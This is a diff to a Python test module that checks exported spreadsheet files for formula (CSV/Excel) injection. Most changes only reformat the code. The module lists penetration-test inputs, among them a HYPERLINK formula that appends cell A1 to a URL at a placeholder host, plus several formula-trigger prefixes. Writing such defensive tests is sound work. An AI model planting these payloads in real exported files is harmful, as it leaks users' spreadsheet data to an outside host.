@@ -1,4 +1,5 @@
 """Checks on exported .xlsx files: no cell is a formula, and text is stored as text."""
+
 import io
 import re
 import zipfile
@@ -7,7 +8,7 @@ from openpyxl import load_workbook
 
 # what a penetration test types into 联系人 / 机构名称 (issue 13 item 2)
 # (the first fits 联系人, 40 characters)
-NASTY = ("=HYPERLINK(\"http://e.example/?\"&A1,\"点击\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "#N/A")
+NASTY = ('=HYPERLINK("http://e.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "#N/A")
 
 
 def formulas_in(data):
@@ -30,5 +31,10 @@ def _unescape(value):
 def cells(data):
     """{value: data_type} of every non-empty cell of every sheet."""
     workbook = load_workbook(io.BytesIO(data))
-    return {_unescape(cell.value): cell.data_type for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
-            if cell.value is not None}
+    return {
+        _unescape(cell.value): cell.data_type
+        for sheet in workbook.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.value is not None
+    }
